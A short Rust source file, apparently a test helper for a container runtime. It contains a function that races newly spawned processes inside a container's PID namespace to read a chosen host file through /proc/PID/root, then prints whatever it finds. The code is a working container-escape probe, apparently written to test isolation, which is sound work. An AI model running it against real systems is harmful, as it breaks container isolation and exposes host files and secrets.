//! An attack from inside a container: looks at every process that is born in its PID namespace, as fast as it can, for
//! one whose /proc/PID/root still is the host's.

use std::ffi::OsStr;
use std::process::ExitCode;
use std::time::{Duration, Instant};

/// Prints what it found at `path` of a process's root, or nothing.
pub(crate) fn peek(seconds: &OsStr, path: &OsStr) -> ExitCode {
    let seconds = seconds.to_str().and_then(|text| text.parse().ok()).unwrap();
    let (path, end) = (path.to_str().unwrap(), Instant::now() + Duration::from_secs(seconds));
    let mut newest: u32 = 2;
    while Instant::now() < end {
        // The kernel gives numbers in order: a little back from the newest, and ahead of it.
        for pid in newest.saturating_sub(4).max(2)..newest + 24 {
            if pid == std::process::id() {
                continue;
            }
            if let Ok(text) = std::fs::read_to_string(format!("/proc/{pid}/root{path}")) {
                println!("{}", text.trim_end());
                return ExitCode::SUCCESS;
            }
        }
        let load = std::fs::read_to_string("/proc/loadavg").unwrap_or_default();
        newest = load.split_whitespace().last().and_then(|pid| pid.parse().ok()).unwrap_or(newest);
    }
    ExitCode::SUCCESS
}
